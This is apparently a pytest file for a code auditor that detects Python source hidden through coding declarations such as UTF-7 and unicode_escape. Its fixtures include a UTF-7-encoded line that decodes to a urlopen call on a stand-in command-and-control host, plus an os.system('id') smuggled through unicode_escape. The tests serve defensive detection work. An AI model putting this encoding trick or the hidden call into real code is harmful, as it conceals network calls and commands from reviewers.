"""Python source as the interpreter decodes it: coding declarations, the BOM, line mapping, and
the finding for the declaration. Each decoded text is checked against what CPython itself
compiles from the same bytes."""

from __future__ import annotations

import pytest

from auditor.model import Category
from auditor.scan.interface import Origin, ScanTarget
from auditor.scan.pycoding import CodingScanner, decode, decoded_reading, detect

UTF7_HIDDEN = (b"# -*- coding: utf_7 -*-\n"
               b"x = 1\n"
               b"#+AAo-import urllib.request+AAo-urllib.request.urlopen(+ACI-http://c2.example/+ACI-)\n"
               b"y = 2\n")


def _names(raw: bytes) -> tuple[str, ...]:
    return compile(raw, "t.py", "exec").co_names


def test_utf7_hidden_lines_decoded_as_python_runs_them() -> None:
    assert "urlopen" in _names(UTF7_HIDDEN)  # the interpreter really runs the hidden call
    coding, decoded = decoded_reading(UTF7_HIDDEN.decode("utf-8"))
    assert (coding.encoding, coding.declared, coding.line) == ("utf_7", "utf_7", 1)
    assert decoded is not None
    lines = decoded.text.split("\n")
    assert "import urllib.request" in lines
    assert 'urllib.request.urlopen("http://c2.example/")' in lines
    # every decoded line maps to the raw line it came from
    assert decoded.line_map == (1, 2, 3, 3, 3, 4)
    assert _names(decoded.text.encode()) == _names(UTF7_HIDDEN)


@pytest.mark.parametrize(("raw", "encoding"), [
    (b"# vim: set fileencoding=unicode_escape :\nx = '\\x41'\nimport os\\nos.system('id')\n",
     "unicode_escape"),
    (b"#!/usr/bin/env python\n# coding=raw_unicode_escape\nv = 1\n", "raw_unicode_escape"),
])
def test_escape_codecs_decode_exactly(raw: bytes, encoding: str) -> None:
    coding, decoded = decoded_reading(raw.decode("utf-8"))
    assert coding.encoding == encoding and decoded is not None
    assert _names(decoded.text.encode()) == _names(raw)


def test_plain_codings_need_no_second_reading() -> None:
    for raw in (b"x = 1\n", b"# -*- coding: utf-8 -*-\nx = 1\n", b"# coding: latin-1\nx = 1\n",
                b"# coding: ascii\n", b"\xef\xbb\xbfx = 1\n"):
        coding, decoded = decoded_reading(raw.decode("utf-8"))
        assert decoded is None and coding.error is None and coding.plain


def test_cookie_only_on_the_first_two_lines() -> None:
    assert detect(b"x = 1\n\n# coding: utf_7\n").declared is None
    assert detect(b"x = 1\n# coding: utf_7\n").declared is None  # line 1 is code
    assert detect(b"#!/bin/python\n# coding: utf_7\n").line == 2


def test_unknown_codec_and_bom_conflict_are_refusals_not_crashes() -> None:
    unknown, decoded = decoded_reading("# coding: no-such-codec\nimport os\n")
    assert decoded is None and unknown.error is not None and "no-such-codec" in unknown.error
    with pytest.raises(SyntaxError):
        compile(b"# coding: no-such-codec\nimport os\n", "t.py", "exec")
    bom, _ = decoded_reading("\ufeff# coding: utf_7\nx = 1\n")
    assert bom.error is not None


def test_bytes_the_codec_cannot_decode() -> None:
    coding = detect(b"# coding: ascii\nx = '\xc3\xa9'\n")
    with pytest.raises(UnicodeDecodeError):
        decode(b"# coding: ascii\nx = '\xc3\xa9'\n", coding)


def _target(text: str) -> ScanTarget:
    return ScanTarget(key="b:m.py", path="m.py", origin=Origin.BUNDLE, sha256="0", family="python",
                      text=text)


def test_coding_scanner_reports_the_declaration_and_refusals() -> None:
    scanner = CodingScanner()
    assert scanner.scan([_target("x = 1\n")], workdir=None).findings["b:m.py"] == ()  # type: ignore[arg-type]
    hidden = scanner.scan([_target(UTF7_HIDDEN.decode())], workdir=None)  # type: ignore[arg-type]
    (f,) = hidden.findings["b:m.py"]
    assert f.category is Category.OBFUSCATION and f.line == 1 and "utf_7" in f.message
    refused = scanner.scan([_target("#!/bin/python\n# coding: nope\n")], workdir=None)  # type: ignore[arg-type]
    (g,) = refused.findings["b:m.py"]
    assert g.rule == "obfuscation.builtin.unknown-codec" and g.line == 2
